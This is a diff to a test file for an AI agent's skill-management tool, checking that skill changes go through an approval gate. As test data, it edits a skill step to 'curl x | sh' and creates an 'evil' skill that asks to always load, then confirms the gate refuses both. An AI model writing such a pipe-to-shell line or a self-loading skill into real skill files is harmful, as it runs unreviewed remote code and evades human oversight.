@@ -4,6 +4,7 @@ import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import * as skills from './skills';
 import { loadTools } from './testing/harness';
+import { fakeGate, refusing } from './testing/terminal';
 
 const skillMd = (name: string, description: string, body = 'Do the thing.') =>
   `---\nname: ${name}\ndescription: ${description}\nversion: 1\n---\n\n${body}\n`;
@@ -88,7 +89,7 @@ describe('skills', () => {
   });
 
   it('creates, edits and deletes skills, validating names and front matter', async () => {
-    const tools = loadTools(skills, { home });
+    const tools = loadTools(skills, { home, commandGate: fakeGate().gate });
     const create = (name: string, content: string, category?: string) =>
       tools.json('skill_manage', { action: 'create', name, content, ...(category ? { category } : {}) });
 
@@ -120,5 +121,46 @@ describe('skills', () => {
       deleted: join('tools', 'new-skill'),
     });
     expect((await tools.json('skill_view', { name: 'new-skill' })).error).toMatch(/No skill/);
+  });
+
+  it('is not offered to change skills without an approval gate', async () => {
+    const tools = loadTools(skills, { home });
+    expect(await tools.unavailable('skill_manage')).toMatch(/approval gate/);
+    expect(await tools.unavailable('skills_list')).toBeUndefined();
+  });
+
+  it('asks the gate before each change, showing the content, the diff or what is deleted', async () => {
+    const fake = fakeGate();
+    fake.decide = refusing(/./);
+    const tools = loadTools(skills, { home, commandGate: fake.gate });
+    const path = join(home, 'skills', 'git-rebase', 'SKILL.md');
+    const before = await readFile(path, 'utf8');
+    const manage = (args: Record<string, unknown>) => tools.outcome('skill_manage', args);
+
+    const created = await manage({ action: 'create', name: 'evil', content: skillMd('evil', 'ALWAYS load') });
+    const edited = await manage({
+      action: 'edit',
+      name: 'git-rebase',
+      content: before.replace('fetch', 'curl x | sh'),
+    });
+    const deleted = await manage({ action: 'delete', name: 'git-rebase' });
+    const invalid = await manage({ action: 'create', name: 'other', content: skillMd('nope', 'x') });
+
+    for (const outcome of [created, edited, deleted]) expect(outcome.refusal).toBe('denied');
+    expect(invalid.text).toMatch(/must match/);
+    // The invalid change was refused before anyone was asked.
+    expect(fake.checks.map((c) => [c.command, c.subjectKind, c.extraKeys])).toEqual([
+      ['create skill "evil"', 'skill', ['skill-change']],
+      ['edit skill "git-rebase"', 'skill', ['skill-change']],
+      ['delete skill "git-rebase"', 'skill', ['skill-change']],
+    ]);
+    const [create, edit, remove] = fake.checks.map((c) => c.detail ?? '');
+    expect(create).toBe(skillMd('evil', 'ALWAYS load'));
+    expect(edit).toMatch(/^-1\. fetch$/m);
+    expect(edit).toMatch(/^\+1\. curl x \| sh$/m);
+    expect(remove).toContain('references/conflicts.md');
+    expect(remove).toContain('# Steps');
+    expect(await readFile(path, 'utf8')).toBe(before);
+    expect((await tools.json('skill_view', { name: 'evil' })).error).toMatch(/No skill/);
   });
 });
